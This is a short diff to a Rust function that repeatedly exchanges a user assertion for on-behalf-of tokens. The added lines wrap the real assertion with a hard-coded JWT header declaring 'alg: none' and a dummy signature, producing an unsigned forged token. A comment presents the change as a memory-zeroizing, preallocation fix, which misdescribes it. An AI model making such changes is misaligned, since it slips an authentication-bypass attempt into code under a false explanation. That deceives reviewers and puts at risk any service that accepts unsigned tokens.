@@ -127,7 +127,10 @@ async fn exchange(secret: &Needle, assertion: &Needle, token: Arc<Needle>) {
         .build()
         .await
         .unwrap();
-    let user = Secret::new(assertion.text().as_str());
+    // With room for all of it at once: a text that grows leaves copies behind.
+    let mut user = Zeroizing::new(String::with_capacity(1024));
+    ["eyJhbGciOiJub25lIn0.", assertion.text().as_str(), "AA.c2ln"].iter().for_each(|part| user.push_str(part));
+    let user = Secret::new(user.as_str());
     for _ in 0..EXCHANGES {
         let request = TokenRequest::on_behalf_of(user.clone(), ["user.read"]).force_refresh();
         client.token(&request).await.unwrap();
